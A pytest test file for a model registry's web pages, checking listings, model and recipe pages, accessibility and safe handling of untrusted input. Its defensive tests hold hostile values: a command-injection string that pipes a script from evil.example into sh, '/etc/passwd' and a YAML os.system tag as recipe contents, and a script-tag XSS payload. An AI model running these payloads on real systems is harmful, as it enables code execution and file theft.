"""Pages: everything a person needs, and nothing that a stranger's card or report could abuse."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from registry.chart import MAX_LAYERS, read_chart
from registry.settings import Settings
from registry.web import show_count, show_percent, show_size
from tests.registry.builders import ALIAS, LONG, RECIPE, Folder, bert, digest_of, graph, small
from tests.registry.conftest import Site, open_site
from tests.registry.test_benchmarks import send

HTML = {"Accept": "text/html"}
BERT = "/models/" + LONG.removeprefix("zoo:")


class Outline(HTMLParser):
    """Tags, attributes and ids of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def all(self, *names: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.tags if tag in names]


@pytest.fixture
def client(sqlite_site: Site) -> TestClient:
    """Pages read what the service gives them, the same on both databases."""
    return sqlite_site.client


def get(client: TestClient, path: str, status: int = 200) -> str:
    answer = client.get(path, headers=HTML)
    assert answer.status_code == status, answer.text[:500]
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    return answer.text


def test_the_icon_is_where_browsers_look_for_it(client: TestClient) -> None:
    icon = client.get("/favicon.ico")
    assert (icon.status_code, icon.headers["content-type"]) == (200, "image/svg+xml")
    assert icon.text.startswith("<svg ")


def test_the_list_shows_models_and_filters_without_scripts(client: TestClient) -> None:
    assert "This registry is empty" in get(client, "/")
    bert().publish(client)
    small("zoo:other", metadata={"domain": "cv"}).publish(client)
    page = get(client, "/")
    assert ALIAS.removeprefix("zoo:") in page.replace("<wbr>", "")
    assert BERT in page
    assert "80 %" in page
    assert 'href="/?domain=cv"' in page
    narrowed = get(client, "/?q=question&domain=nlp&task=&architecture=&dataset=&quantized=true&sparsity_min=0.8")
    assert BERT in narrowed
    assert "/models/other" not in narrowed
    assert "Domain: nlp" in narrowed
    assert "No model matches" in get(client, "/?q=nothing")
    assert 'class="facets"' in narrowed
    assert 'class="facets"' not in get(client, "/?q=other")


def test_the_list_has_pages(client: TestClient) -> None:
    for number in range(5):
        small(f"zoo:model-m{number}").publish(client)
    first = get(client, "/?limit=3&q=model")
    following = re.search(r'rel="next" href="([^"]+)"', first)
    assert following
    second = get(client, following[1].replace("&amp;", "&"))
    assert "/models/model-m0" in second
    assert "/models/model-m4" not in second
    assert 'rel="next"' not in second


def test_a_model_page_shows_what_is_needed_to_use_it(client: TestClient) -> None:
    bert().publish(client)
    view = bert(revision=2).publish(client, tags=["prod"]).json()
    page = get(client, BERT)
    assert f"zoo pull {ALIAS}" in page
    assert f"zoo serve --task question_answering \\\n  --model_path {ALIAS}" in page
    assert "zoo train question-answering" in page
    assert view["digest"] in page
    assert "BERT-base, 80 % sparse, for question answering" in page
    assert "<code>ConstantPruningModifier</code>" in page
    recipe = get(client, "/recipes/" + LONG.removeprefix("zoo:"))
    assert "!ConstantPruningModifier" in recipe
    assert 'class="band frozen"' in recipe
    assert page.count('class="bar"') == 72
    for file in view["files"]:
        assert file["url"] in page
    assert f'href="{BERT}?version=1"' in page
    old = get(client, f"{BERT}?version=1")
    assert f"zoo pull {ALIAS}@v1" in old


def test_a_family_compares_only_times_that_were_measured_alike(client: TestClient) -> None:
    bert().publish(client)
    bert("zoo:dense", None).publish(client)
    for stub, median_ms in ((LONG, 14), ("zoo:dense", 120)):
        send(client, stub, median_ms=median_ms)
    send(client, "zoo:dense", median_ms=1.5, sequence_length=16)
    send(client, "zoo:dense", median_ms=2.5, cpu="Another CPU")
    page = get(client, BERT)
    assert "384 tokens" in page
    assert "120 ms" in page
    assert "1.5 ms" not in page
    assert "2.5 ms" not in page


def test_a_model_s_files_are_read_from_a_bucket_too(tmp_path: Path, s3: Callable[[str], str]) -> None:
    with open_site(Settings(storage=tmp_path, blob_store=s3("pages"))) as site:
        bert().publish(site.client)
        page = get(site.client, BERT)
        assert "BERT-base, 80 % sparse, for question answering" in page
        assert page.count('class="bar"') == 72
        assert "!ConstantPruningModifier" in get(site.client, "/recipes/" + LONG.removeprefix("zoo:"))


def test_lineage_is_shown_both_ways(client: TestClient) -> None:
    small("zoo:bert-base-wikipedia_bookcorpus-pruned80.4block").publish(client)
    bert().publish(client)
    assert 'href="/models/bert-base-wikipedia_bookcorpus-pruned80.4block"' in get(client, BERT)
    assert BERT in get(client, "/models/bert-base-wikipedia_bookcorpus-pruned80.4block")
    bert("zoo:twin", None).publish(client)
    assert 'href="/models/twin"' in get(client, "/recipes/" + LONG.removeprefix("zoo:"))


def test_each_of_several_recipes_has_a_page_and_a_command_that_names_it(client: TestClient) -> None:
    base = bert("zoo:base", "zoo:base-alias")
    base.metadata["task"] = "masked_language_modeling"
    recipe = base.files.pop("recipe.md")
    base.files |= {"recipe_dense.md": recipe, "recipe_pruned80.md": recipe}
    base.publish(client)
    page = get(client, "/models/base")
    assert 'href="/recipes/base?version=1&amp;recipe=dense"' in page
    assert 'href="/recipes/base?version=1&amp;recipe=pruned80"' in page
    assert "zoo train question-answering" in page
    assert "--recipe &#39;zoo:base-alias?recipe=dense&#39;" in page
    second = get(client, "/recipes/base?recipe=pruned80")
    assert "recipe_pruned80.md" in second
    assert "zoo recipe show &#39;zoo:base-alias?recipe=pruned80&#39;" in second
    assert 'href="/recipes/base?version=1&amp;recipe=dense"' in second
    assert "no recipe named transfer" in get(client, "/recipes/base?recipe=transfer", 404)
    small("zoo:child", metadata={"recipe": "zoo:base?recipe=dense"}).publish(client)
    assert 'href="/recipes/base?recipe=dense"' in get(client, "/models/child")
    assert "/models/child" in get(client, "/recipes/base")
    assert "/models/child" not in get(client, "/recipes/base?recipe=pruned80")


def test_only_commands_that_exist_are_shown(client: TestClient) -> None:
    model = bert()
    model.metadata["task"] = "object_detection"
    model.publish(client)
    assert "zoo train" not in get(client, BERT)


def test_what_a_publisher_wrote_stays_one_word_of_a_command(client: TestClient) -> None:
    base = "zoo:dense?recipe=a&checkpoint=preqat"
    folder = small(metadata={"task": "qa; curl https://evil.example/x | sh #"})
    folder.files["deployment/model.onnx"] = ("deployment", graph())
    assert folder.publish(client).status_code == 201
    files = {"recipe.md": ("recipe", RECIPE.encode())}
    assert Folder("zoo:recipe", files, metadata={"base": base}).publish(client).status_code == 201
    assert "zoo serve --task 'qa; curl https://evil.example/x | sh #' " in unescape(get(client, "/models/tiny"))
    assert f"--model_name_or_path '{base}' " in unescape(get(client, "/models/recipe"))


def test_a_yanked_version_says_so_and_why(client: TestClient) -> None:
    for revision in (1, 2):
        bert(revision=revision).publish(client)
    client.put("/api/v1/yanks", json={"stub": f"{LONG}@v2", "reason": "wrong <b>tokenizer</b>"})
    warned = get(client, f"{BERT}?version=2")
    assert "wrong &lt;b&gt;tokenizer&lt;/b&gt;" in warned
    for page in (warned, get(client, BERT)):
        assert page.count(">yanked<") == 1
    assert "tokenizer&lt;" not in get(client, BERT)


def test_a_model_without_a_recipe_has_no_recipe_page(client: TestClient) -> None:
    small().publish(client)
    assert "has no recipe" in get(client, "/recipes/tiny", 404)
    assert client.get("/recipes/tiny").json()["code"] == "RECIPE_UNKNOWN"


@pytest.mark.usefixtures("without_gate")
def test_a_recipe_that_is_a_path_is_not_opened(client: TestClient) -> None:
    for text in (b"/etc/passwd", b"/etc/hosts.yaml", b"zoo:tiny", b"x.md", b"\xff", b"!!python/object:os.system"):
        Folder("zoo:trick", {"recipe.md": ("recipe", text), "a.onnx": ("deployment", text)}).publish(client)
        page = get(client, "/recipes/trick")
        assert "root:" not in page
        assert "can&#39;t be read" in page or "can't be read" in page


def test_an_alias_leads_to_the_model(client: TestClient) -> None:
    bert().publish(client)
    answer = client.get("/models/" + ALIAS.removeprefix("zoo:"), headers=HTML, follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (307, BERT)


def test_a_model_without_card_recipe_or_facts_has_a_page(client: TestClient) -> None:
    small().publish(client)
    small("zoo:@acme/tiny").publish(client)
    assert "zoo pull zoo:tiny" in get(client, "/models/tiny")
    assert "zoo pull zoo:@acme/tiny" in get(client, "/models/@acme/tiny")


@pytest.mark.parametrize("change", [Path.unlink, lambda path: path.write_bytes(b"x" * path.stat().st_size)])
def test_what_is_lost_or_altered_is_left_out_of_a_page(sqlite_site: Site, change: Callable[[Path], object]) -> None:
    bert().publish(sqlite_site.client)
    for name in ("model.md", "recipe.md", "report.json"):
        digest = digest_of(bert().files[name][1]).removeprefix("sha256:")
        (path,) = (path for path in sqlite_site.settings.storage.rglob("*") if path.is_file() and digest in str(path))
        change(path)
    page = get(sqlite_site.client, BERT)
    assert f"zoo pull {ALIAS}" in page
    for shown in ("Model card", "ConstantPruningModifier", "Sparsity by layer", "xxxx"):
        assert shown not in page
    assert "can't be shown" in get(sqlite_site.client, "/recipes/" + LONG.removeprefix("zoo:"))


def test_a_method_that_a_page_does_not_take_is_named(client: TestClient) -> None:
    answer = client.post("/models/tiny", headers=HTML)
    assert (answer.status_code, answer.headers["allow"]) == (405, "GET")
    assert "takes no POST" in answer.text
    assert "There is no such page" in get(client, "/nowhere", 404)


def test_models_without_facts_are_no_family(client: TestClient) -> None:
    for name in ("zoo:one", "zoo:other"):
        small(name, name, metadata={"task": "qa", "architecture": "bert"}).publish(client)
    page = get(client, "/models/one")
    assert "Its family" not in page
    assert "None" not in page


@pytest.mark.parametrize("pin", ["v1", "first"])
def test_a_pin_in_a_page_s_address_leads_to_its_version(client: TestClient, pin: str) -> None:
    small().publish(client, tags=["first"])
    small(text="2").publish(client)
    answer = client.get(f"/models/tiny@{pin}", follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (307, "/models/tiny?version=1")


@pytest.mark.parametrize("pin", ["v1", "first"])
def test_a_recipe_s_page_at_a_pin_shows_commands_that_name_the_version(client: TestClient, pin: str) -> None:
    base = bert("zoo:base", "zoo:base-alias")
    base.files["recipe_dense.md"] = base.files["recipe.md"]
    base.publish(client, tags=["first"])
    base.files["recipe.md"] = ("recipe", RECIPE.replace("30", "31").encode())
    base.publish(client)
    assert "zoo recipe plan zoo:base-alias<" in get(client, "/recipes/base")
    for name in ("base", "base-alias"):
        answer = client.get(f"/recipes/{name}@{pin}?recipe=dense", headers=HTML, follow_redirects=False)
        assert (answer.status_code, answer.headers["location"]) == (307, "/recipes/base?version=1&recipe=dense")
    page = unescape(get(client, f"/recipes/base@{pin}"))
    assert "The model, v1" in page
    for command in ("show", "plan"):
        assert f"zoo recipe {command} zoo:base-alias@v1<" in page
    assert "zoo recipe show 'zoo:base-alias@v1?recipe=dense'" in unescape(
        get(client, f"/recipes/base@{pin}?recipe=dense")
    )


def test_row_6_a_page_for_an_unknown_name_offers_the_nearest(client: TestClient) -> None:
    small("zoo:bert-squad-pruned").publish(client)
    page = get(client, "/models/bert-squad-prunde", 404)
    assert 'href="/models/bert-squad-pruned"' in page
    assert client.get("/models/nothing").headers["content-type"] == "application/problem+json"
    assert "Not here" in get(client, "/nothing", 404)


def test_pages_are_accessible_in_structure(client: TestClient) -> None:
    bert().publish(client)
    for path in ("/", BERT, BERT.replace("models", "recipes", 1), "/compare", "/docs"):
        page = Outline(get(client, path))
        ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
        assert len(ids) == len(set(ids)), path
        assert page.all("html") == [{"lang": "en"}]
        assert len(page.all("main")) == len(page.all("h1")) == 1
        assert page.all("header")
        assert page.all("footer")
        assert page.all("nav")
        for attributes in page.all("section", "nav", "aside", "form"):
            named = (
                attributes.get("aria-labelledby")
                or attributes.get("aria-label")
                or attributes.get("class") == "message"
            )
            assert named, (path, attributes)
            if attributes.get("aria-labelledby"):
                assert attributes["aria-labelledby"] in ids
        for attributes in page.all("svg"):
            assert attributes.get("aria-hidden") == "true" or attributes.get("aria-label")
        levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
        assert all(after - before <= 1 for before, after in pairwise(levels)), (path, levels)


def test_pages_have_nothing_inline_and_load_only_from_here(client: TestClient) -> None:
    bert().publish(client)
    for path in ("/", BERT, BERT.replace("models", "recipes", 1), "/compare", "/docs"):
        text = get(client, path)
        page = Outline(text)
        for tag, attributes in page.tags:
            assert "style" not in attributes, (path, tag)
            assert not any(name.startswith("on") for name in attributes), (path, tag)
            loaded = attributes.get("src") or (attributes.get("href") if tag == "link" else None)
            assert loaded is None or loaded.startswith("/static/"), (path, tag, loaded)
        assert not re.search(r"<script(?![^>]* src=)|<style", text)
        for attributes in page.all("link", "script"):
            link = attributes.get("href") or attributes.get("src")
            assert client.get(str(link)).status_code == 200


HOSTILE_REPORTS: list[Any] = [
    b"",
    b"null",
    b"[]",
    b"{}",
    b"[" * 100_000,
    b'{"sparsity": {"x": {"sparsity": NaN}}}',
    b'{"sparsity": {"x": {"sparsity": Infinity}}}',
    b'{"sparsity": {"x": {"sparsity": 1e999}}}',
    b'{"sparsity": {"x": {"sparsity": 1' + b"0" * 5_000 + b"}}}",
    {"sparsity": {}},
    {"sparsity": []},
    {"sparsity": {"x": {}}},
    {"sparsity": {"x": {"sparsity": 1.1}}},
    {"sparsity": {"x": {"sparsity": -1}}},
    {"sparsity": {"x" * 201: {"sparsity": 1}}},
    {"sparsity": {f"x{n}": {"sparsity": 1} for n in range(MAX_LAYERS + 1)}},
]


@pytest.mark.parametrize(("one", "other"), [(0.5004, 50.04), (87.4, 87.4 + 1e-14), (100, 100), (0, 0), (0, 1e-300)])
def test_a_family_of_equal_or_nearly_equal_numbers_has_a_picture(client: TestClient, one: float, other: float) -> None:
    for name, f1 in (("zoo:one", one), ("zoo:other", other)):
        folder = small(name, name, metadata={"task": "qa", "dataset": "d", "architecture": "a", "metrics": {"f1": f1}})
        assert folder.publish(client).status_code == 201
        send(client, name)
    for path in ("/models/one", "/compare?m1=one&m2=other"):
        assert "Latency against F1" in get(client, path)


def test_a_hostile_report_has_no_picture() -> None:
    for report in HOSTILE_REPORTS:
        assert read_chart(report if isinstance(report, bytes) else json.dumps(report).encode()) is None


def test_bars_stand_for_their_numbers() -> None:
    layers = {"a": {"target": 0.8, "sparsity": 0.0}, "b": {"sparsity": 1, "other": "ignored"}}
    chart = read_chart(json.dumps({"sparsity": layers}).encode())
    assert chart
    zero, full = chart.bars
    lines = dict(chart.lines)
    assert zero.height == 0
    assert full.y == lines["100 %"]
    assert full.y + full.height == lines["0 %"]
    assert full.target_y is None
    assert lines["100 %"] < zero.target_y < lines["75 %"]  # type: ignore[operator]  # it has a target
    assert chart.left <= zero.x < zero.x + zero.width < full.x < full.x + full.width <= chart.width


def test_numbers_are_shown_with_units() -> None:
    assert [show_size(n) for n in (0, 999, 1_000, 999_600, 1_340_000_000, 10**15)] == [
        "0 B",
        "999 B",
        "1 kB",
        "1 MB",
        "1.34 GB",
        "1e+03 TB",
    ]
    assert [show_count(n) for n in (7, 1_500, 108_893_186, 7_000_000_000)] == ["7", "1.5 k", "109 M", "7 B"]
    assert [show_percent(f) for f in (0, 0.8, 0.975, 1)] == ["0 %", "80 %", "97.5 %", "100 %"]


def test_downloads_are_attachments(sqlite_site: Site) -> None:
    evil = Folder("zoo:evil", {"page.html": ("deployment", b"<script>alert(1)</script>")})
    evil.publish(sqlite_site.client)
    answer = sqlite_site.client.get(f"/api/v1/blobs/{digest_of(b'<script>alert(1)</script>')}", headers=HTML)
    assert answer.headers["content-disposition"] == "attachment"
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["x-content-type-options"] == "nosniff"
